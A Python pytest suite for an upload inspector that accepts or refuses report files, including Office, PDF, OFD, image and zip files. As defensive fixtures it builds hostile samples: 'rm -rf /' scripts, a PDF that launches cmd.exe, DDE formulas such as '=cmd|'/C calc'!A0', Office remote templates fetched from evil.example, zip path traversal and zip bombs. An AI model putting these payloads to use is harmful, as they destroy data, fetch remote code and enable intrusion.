"""What is taken, what is refused and why; nothing that is brought can do harm by being looked at."""

import io
import stat
import tracemalloc
import zipfile
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf.generic import NameObject, NumberObject

from reports.inspection import LIMITS, Inspected, Refused, clean_name, inspect, unpack
from tests.reports.inspection import hostile as make

WORD = make.word("2021年度工作总结")


def refused(name: str, data: bytes, **limits: int) -> Refused:
    with pytest.raises(Refused) as caught:
        inspect(name, data, replace(LIMITS, **limits))
    assert caught.value.words  # every code has its sentence, with all numbers put in
    return caught.value


TAKEN: list[tuple[str, bytes, str, str]] = [
    ("总结.docx", WORD, "docx", ".docx"),
    ("WPS存的.doc", WORD, "docx", ".docx"),
    ("表.xlsx", make.excel("一般公共预算", 2587.01), "xlsx", ".xlsx"),
    ("表.et", make.excel(1), "xlsx", ".xlsx"),
    ("文.pdf", make.pdf(), "pdf", ".pdf"),
    ("文.PDF", make.pdf(password=""), "pdf", ".pdf"),
    ("票.ofd", make.ofd(), "ofd", ".ofd"),
    ("图.jpg", make.picture("JPEG"), "image", ".jpg"),
    ("其实是png.jpg", make.picture("PNG"), "image", ".png"),
    ("图.bmp", make.picture("BMP"), "image", ".bmp"),
    ("图.gif", make.picture("GIF"), "image", ".gif"),
    ("扫描.tiff", make.picture("TIFF"), "image", ".tif"),
    ("图.webp", make.picture("WEBP"), "image", ".webp"),
    ("苹果.heic", b"\0\0\0\x18ftypheic" + b"\0" * 64, "image", ".heic"),
    ("photo", make.picture("JPEG"), "image", ".jpg"),
    ("包.zip", make.zipped({"a/总结.docx": WORD, "图.png": make.picture()}), "zip", ".zip"),
]


@pytest.mark.parametrize(("name", "data", "kind", "suffix"), TAKEN, ids=[t[0] for t in TAKEN])
def test_taken(name: str, data: bytes, kind: str, suffix: str) -> None:
    found = inspect(name, data)
    assert (found.kind, found.suffix) == (kind, suffix)
    assert "/" in found.content_type


REFUSED: list[tuple[str, bytes, str]] = [
    ("空.docx", b"", "empty"),
    ("程序.pdf", make.PROGRAM, "dangerous"),
    ("程序.docx", b"\x7fELF" + b"\0" * 99, "dangerous"),
    ("程序.jpg", b"\xcf\xfa\xed\xfe" + b"\0" * 99, "dangerous"),
    ("类.jpg", b"\xca\xfe\xba\xbe\0\0\0\x34", "dangerous"),
    ("脚本.docx", b"#!/bin/sh\nrm -rf /", "dangerous"),
    ("批处理.pdf", b"@echo off\r\ndel *.*", "dangerous"),
    ("捷径.pdf", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 99, "dangerous"),
    ("网页.pdf", b"<!DOCTYPE html><script>alert(1)</script>", "dangerous"),
    ("网页.doc", "\ufeff<html><body>表</body></html>".encode(), "dangerous"),
    ("网页16.xls", "\ufeff<html><script>".encode("utf-16-le"), "dangerous"),
    ("矢量.png", b'<?xml version="1.0"?><svg xmlns="x"><script/></svg>', "dangerous"),
    ("帮助.pdf", b"ITSF\x03\0\0\0" + b"\0" * 99, "dangerous"),
    ("文.txt", "今年的总结".encode(), "wrong_kind"),
    ("文.csv", b"a,b\n1,2", "wrong_kind"),
    ("文.doc", b"{\\rtf1 hello}", "wrong_kind"),
    ("包.rar", b"Rar!\x1a\x07\x01\x00" + b"\0" * 99, "wrong_kind"),
    ("录音.mp3", b"ID3\x03\0\0\0" + b"\0" * 99, "wrong_kind"),
    ("乱.docx", bytes(range(1, 32)) * 20, "wrong_kind"),
    ("文.pdf", WORD, "mismatch"),
    ("表.docx", make.excel(1), "mismatch"),
    ("图.pdf", make.picture(), "mismatch"),
    ("文.exe", make.pdf(), "mismatch"),
    ("总结\u202efdp.docx", WORD, "disguised_name"),
    ("旧.doc", make.ole("WordDocument"), "old_word"),
    ("旧.xls", make.ole("Workbook"), "old_excel"),
    ("旧宏.xls", make.ole("_VBA_PROJECT", "Workbook"), "macros"),
    ("旧.ppt", make.ole("PowerPoint Document"), "slides"),
    ("密.docx", make.ole("EncryptedPackage"), "encrypted"),
    ("装.msi", make.ole("Binary"), "old_other"),
    ("断.docx", WORD[: len(WORD) // 2], "damaged"),
    ("断.zip", make.zipped({"a.docx": WORD})[:-30], "damaged"),
    ("断.png", make.picture()[:20], "damaged"),
    ("断.pdf", b"%PDF-1.7\n1 0 obj\n", "damaged"),
    ("后.pdf", b"GIF\n" * 10 + make.pdf(), "pdf_behind"),
    ("脚本.pdf", make.pdf(root={"/OpenAction": make.action("JavaScript", JS="app.alert(1)")}), "pdf_script"),
    ("闲置.pdf", make.pdf(loose=make.action("JavaScript", JS="x")), "pdf_script"),
    ("启动.pdf", make.pdf(root={"/OpenAction": make.action("Launch", F="cmd.exe")}), "pdf_launch"),
    ("改写.pdf", make.pdf().replace(b"/Type /Catalog", b"/J#61vaScript 1 /Type /Catalog"), "pdf_script"),
    ("跳.pdf", make.pdf(root={"/OpenAction": make.action("GoToE")}), "pdf_launch"),
    ("表单.pdf", make.pdf(root={"/XFA": NumberObject(1)}), "pdf_form"),
    ("媒.pdf", make.pdf(loose=make.listed(make.DictionaryObject({NameObject("/Subtype"): NameObject("/RichMedia")}))), "pdf_media"),
    ("夹带.pdf", make.pdf(root={"/AF": make.listed(make.attachment(make.PROGRAM))}), "pdf_attachment"),
    ("锁.pdf", make.pdf(password="geheim"), "encrypted"),
    ("大.png", make.vast_png(), "pixels"),
    ("中.png", make.vast_png(12_000, 12_000), "pixels"),
    ("图带包.png", make.picture() + make.zipped({"a": b"x"}), "disguised_zip"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data", "code"), REFUSED, ids=[r[0] for r in REFUSED])
def test_refused(name: str, data: bytes, code: str) -> None:
    assert refused(name, data).code == code


def test_a_program_is_called_what_it_is() -> None:
    assert "电脑程序" in refused("发票.pdf", make.PROGRAM).words
    assert "网页" in refused("发票.pdf", b"<html>").words


def office(name: str, data: bytes) -> bytes:
    return make.rezipped(WORD, {name: data})


OFFICE: list[tuple[str, bytes, str]] = [
    ("宏", office("word/vbaProject.bin", b"x"), "macros"),
    ("改名的宏", make.rezipped(WORD, {"word/x.bin": b"x", "[Content_Types].xml": b'<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'}), "macros"),
    ("docm", make.rezipped(WORD, {"[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}), "macros"),
    ("宏表", make.rezipped(make.excel(1), {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    ("宏关系", office("word/_rels/document.xml.rels", make.relations("vbaProject", "x.bin", "Internal")), "macros"),
    ("控件", office("word/activeX/activeX1.xml", b"<a/>"), "activex"),
    ("对象", office("word/embeddings/oleObject1.bin", b"x"), "embedded"),
    ("夹带块", office("word/_rels/document.xml.rels", make.relations("aFChunk", "x.html", "Internal")), "embedded"),
    ("远程模板", office("word/_rels/settings.xml.rels", make.relations("attachedTemplate", "https://evil.example/t.dotm")), "external"),
    ("远程图片", office("word/_rels/document.xml.rels", make.relations("image", "http://evil.example/x.png")), "external"),
    ("共享文件夹", office("word/_rels/document.xml.rels", make.relations("frame", "\\\\evil\\share\\x")), "external"),
    ("远程文件", office("word/_rels/document.xml.rels", make.relations("oleObject", "https://evil.example")), "embedded"),
    ("脚本链接", office("word/_rels/document.xml.rels", make.relations("hyperlink", "javascript:alert(1)")), "script_link"),
    ("诊断工具", office("word/_rels/document.xml.rels", make.relations("hyperlink", "ms-msdt:/id")), "script_link"),
    ("实体", make.rezipped(WORD, {"word/document.xml": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}), "xml_doctype"),
    ("类型实体", make.rezipped(WORD, {"[Content_Types].xml": b'<!DOCTYPE a SYSTEM "http://x"><Types/>'}), "xml_doctype"),
    ("域代码", make.rezipped(WORD, {"word/document.xml": b"<d><p><r><instrText> DD</instrText></r><r><instrText>EAUTO c:\\cmd.exe</instrText></r></p></d>"}), "dde"),
    ("简单域", make.rezipped(WORD, {"word/document.xml": b'<d><fldSimple instr=" DDE excel x "/></d>'}), "dde"),
    ("远程图域", make.rezipped(WORD, {"word/document.xml": b'<d><instrText>INCLUDEPICTURE "http://evil.example/x"</instrText></d>'}), "external"),
    ("公式", make.excel("=cmd|'/C calc'!A0"), "dde"),
    ("套在公式里", make.excel("=SUM(1,cmd|'/C calc'!A0)"), "dde"),
    ("取网页", make.excel('=WEBSERVICE("http://evil.example")'), "dde"),
    ("DDE链接", make.rezipped(make.excel(1), {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}), "dde"),
    ("网络连接", make.rezipped(make.excel(1), {"xl/connections.xml": b'<connections><connection><webPr url="http://evil.example"/></connection></connections>'}), "external"),
    ("藏程序", office("word/media/image1.png", make.PROGRAM), "hidden_program"),
    ("演示", make.rezipped(WORD, {"[Content_Types].xml": b'<Types><Override PartName="/p.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>'}), "slides"),
    ("模板", make.rezipped(WORD, {"[Content_Types].xml": b"<Types/>"}), "not_office"),
    ("坏xml", make.rezipped(WORD, {"word/document.xml": b"<a><b></a>"}), "damaged"),
    ("炸弹", office("word/media/image1.png", b"\0" * 9_000_000), "bomb"),
]  # fmt: skip


@pytest.mark.parametrize(("what", "data", "code"), OFFICE, ids=[o[0] for o in OFFICE])
def test_office_files_that_would_run_or_fetch(what: str, data: bytes, code: str) -> None:
    name = "表.xlsx" if b"xl/workbook.xml" in data else "文.docx"
    assert refused(name, data).code == code


def test_what_honest_office_files_have_is_let_through() -> None:
    """Links to click on, the writer's own template, and a chart with its figures."""
    for kind, target in (
        ("hyperlink", "https://www.gov.cn/"),
        ("attachedTemplate", "file:///C:\\Users\\chen\\Templates\\Normal.dotm"),
        ("externalLinkPath", "2020年决算.xlsx"),
    ):
        assert inspect("文.docx", office("word/_rels/x.xml.rels", make.relations(kind, target)))
    chart = office("word/embeddings/Microsoft_Excel_Sheet.xlsx", make.excel(1))
    assert inspect("文.docx", chart).kind == "docx"
    voucher = make.pdf(root={"/AF": make.listed(make.attachment(b'<?xml version="1.0"?><v/>'))})
    assert inspect("电子凭证.pdf", voucher).kind == "pdf"
    assert inspect("表.xlsx", make.excel("=SUM(A2:A9)", "甲|乙")).kind == "xlsx"


def test_an_embedded_workbook_is_looked_at_too() -> None:
    bad = make.rezipped(make.excel(1), {"xl/vbaProject.bin": b"x"})
    found = refused("文.docx", office("word/embeddings/Microsoft_Excel_Sheet.xlsx", bad))
    assert found.code == "macros"


ZIPS: list[tuple[str, bytes, str]] = [
    ("穿越", make.zipped({"../../etc/x.docx": WORD}), "bad_path"),
    ("反斜杠", make.zipped({"..\\x.docx": WORD}), "bad_path"),
    ("绝对", make.zipped({"/etc/x.docx": WORD}), "bad_path"),
    ("盘符", make.zipped({"C:/x.docx": WORD}), "bad_path"),
    ("链接", make.with_mode("x.docx", stat.S_IFLNK | 0o777), "link"),
    ("设备", make.with_mode("x.docx", stat.S_IFCHR | 0o666), "link"),
    ("加密", make.patched(make.zipped({"a.docx": WORD}), flags=1), "encrypted"),
    ("怪压缩", make.patched(make.zipped({"a.docx": WORD}), method=14), "packing"),
    ("大小写同名", make.zipped({"a.docx": WORD, "A.DOCX": WORD}), "same_names"),
    ("空包", make.zipped({}), "empty_zip"),
    ("只有杂物", make.zipped({"__MACOSX/._a": b"x", "Thumbs.db": b"x", "~$a.docx": b"x"}), "empty_zip"),
    ("套包", make.zipped({"b.zip": make.zipped({"a.docx": WORD})}), "member"),
    ("藏程序", make.zipped({"a.docx": WORD, "发票.pdf": make.PROGRAM}), "member"),
    ("jar", make.zipped({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}), "packed_program"),
    ("apk", make.zipped({"AndroidManifest.xml": b"x", "classes.dex": b"dex\n"}), "packed_program"),
    ("炸弹", make.zipped({"a.docx": b"\0" * 30_000_000}), "bomb"),
    ("谎报大小", make.patched(make.zipped({"a.docx": WORD}), size=10), "damaged"),
]  # fmt: skip


@pytest.mark.parametrize(("what", "data", "code"), ZIPS, ids=[z[0] for z in ZIPS])
def test_zips_that_mean_harm(what: str, data: bytes, code: str) -> None:
    assert refused("包.zip", data).code == code


def test_the_member_at_fault_is_named() -> None:
    words = refused("包.zip", make.zipped({"dir/发票.pdf": make.PROGRAM})).words
    assert "发票.pdf" in words
    assert "电脑程序" in words


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_the_same_name_twice() -> None:
    data = make.zipped([("a.docx", WORD), ("a.docx", make.PROGRAM)])
    assert refused("包.zip", data).code == "same_names"


def test_members_on_top_of_each_other() -> None:
    """Many entries of the directory that all unpack the same bytes."""
    with zipfile.ZipFile(out := io.BytesIO(), "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.docx", WORD)
        for number in range(40):
            info = zipfile.ZipInfo.from_file(__file__)
            info.filename = f"{number}.docx"
            first = archive.filelist[0]
            for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(info, name, getattr(first, name))
            archive.filelist.append(info)
    assert refused("包.zip", out.getvalue()).code == "bomb"


def test_too_many_members_are_not_even_counted() -> None:
    data = make.zipped({f"{n}.png": b"" for n in range(60)})
    assert refused("包.zip", data, members=50).code == "too_many_members"
    assert (
        refused("包.zip", b"PK\x03\x04" + b"PK\x01\x02" * 600, members=50).code
        == "too_many_members"
    )


def test_sizes_have_limits_of_their_kind() -> None:
    small = {"docx": 1000, "xlsx": 1000, "pdf": 1000, "ofd": 1000, "image": 1000, "zip": 10**6}
    with pytest.raises(Refused) as caught:
        inspect("文.docx", WORD, replace(LIMITS, sizes=small))
    assert caught.value.code == "too_big"
    with pytest.raises(Refused) as caught:
        inspect("文.docx", b"x" * 2_000_000, replace(LIMITS, sizes=small))
    assert caught.value.code == "too_big"


def test_a_bomb_fills_no_memory() -> None:
    data = make.zipped({f"{n}.docx": b"\0" * 40_000_000 for n in range(3)})
    tracemalloc.start()
    try:
        refused("包.zip", data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20_000_000


def test_names_in_gbk_are_read() -> None:
    data = make.gbk_zip("佐证材料/采购合同.docx", WORD)
    assert [name for name, _ in unpack(data)] == ["佐证材料/采购合同.docx"]


def test_unpacking_gives_what_is_there_without_litter() -> None:
    data = make.zipped({"a/b.docx": WORD, "__MACOSX/a/._b.docx": b"x", ".DS_Store": b"x"})
    assert list(unpack(data)) == [("a/b.docx", WORD)]


READ: list[tuple[str, bytes, str]] = [
    ("文.docx", make.word("第一段", "第二段"), "第一段\n第二段"),
    ("文.docx", make.word("正文", header="页眉的话"), "页眉的话"),
    ("表.xlsx", make.excel("一般公共预算", 12), "一般公共预算"),
    ("表.xlsx", make.excel(1, sheet="三公经费"), "三公经费"),
    ("文.pdf", make.pdf("hello world"), "hello world"),
    ("票.ofd", make.ofd("电子发票"), "电子发票"),
    ("票.ofd", make.ofd("正文", "收据标题"), "收据标题"),
    ("包.zip", make.zipped({"a.docx": make.word("包里的话")}), "包里的话"),
]


@pytest.mark.parametrize(("name", "data", "words"), READ)
def test_text_is_read(name: str, data: bytes, words: str) -> None:
    assert words in inspect(name, data).text


def test_no_more_text_is_read_than_allowed() -> None:
    long = make.word("字" * 50_000)
    assert len(inspect("文.docx", long, replace(LIMITS, text=1000)).text) == 1000


MARKED: list[tuple[str, bytes]] = [
    ("文.docx", make.word("关于某事", "机密★1年")),
    ("文.docx", make.word("正文", header="秘密★5年")),
    ("表.xlsx", make.excel("密级：秘密")),
    ("表.xlsx", make.excel(1, sheet="绝密")),
    ("票.ofd", make.ofd("绝密★长期")),
    ("票.ofd", make.ofd(title="【机密】函")),
    ("包.zip", make.zipped({"a.docx": make.word("机密★1年")})),
    ("包.zip", make.zipped({"机密-名单.docx": WORD})),
    ("【秘密】名单.docx", WORD),
    ("机密_2021.docx", WORD),
    ("名单(秘密).pdf", make.pdf()),
]


@pytest.mark.parametrize(("name", "data"), MARKED)
def test_what_bears_a_marking_is_refused(name: str, data: bytes) -> None:
    found = refused(name, data)
    assert found.code in ("secret", "secret_name", "member")
    assert "线下报送" in found.words
    assert "某事" not in found.words


def test_words_about_secrets_are_taken() -> None:
    data = make.word(
        "认真学习保守国家秘密法，加强商业秘密保护。", "国家秘密分为绝密、机密、秘密三级。"
    )
    assert inspect("保密教育总结.docx", data).kind == "docx"


def test_private_numbers_are_counted_not_kept() -> None:
    found = inspect("名单.docx", make.word("张某441400199001011234，手机13912345678、13812345678"))
    assert found.private == {"id_card": 1, "mobile": 2}


def test_names_are_cleaned() -> None:
    assert clean_name("..\\..\\a\u202efdp.exe") == "afdp.exe"
    assert clean_name("x" * 300 + ".docx").endswith(".docx")
    assert len(clean_name("x" * 300 + ".docx")) == 120


def verdict(name: str, data: bytes) -> Inspected | str:
    """The file as taken, or the words of the refusal; whatever else is raised comes through."""
    try:
        return inspect(name, data)
    except Refused as refusal:
        return refusal.words


SEEDS = [data for _, data, *_ in (*TAKEN, *REFUSED, *OFFICE, *ZIPS)]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_whatever_is_brought_is_taken_or_refused(data: st.DataObject) -> None:
    """Bytes of real files, bent: nothing else than a verdict comes out."""
    seed = bytearray(data.draw(st.sampled_from(SEEDS)))
    for _ in range(data.draw(st.integers(0, 6))):
        if seed:
            at = data.draw(st.integers(0, len(seed) - 1))
            seed[at] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, 50))
    name = data.draw(st.text(max_size=12)) + data.draw(
        st.sampled_from(["", ".docx", ".pdf", ".zip", ".ofd", ".jpg"])
    )
    found = verdict(name, bytes(seed[: len(seed) - cut]))
    assert not isinstance(found, Inspected) or len(found.text) <= LIMITS.text


@given(st.binary(max_size=200), st.text(max_size=20))
def test_noise_is_taken_or_refused(data: bytes, name: str) -> None:
    assert verdict(name, data)
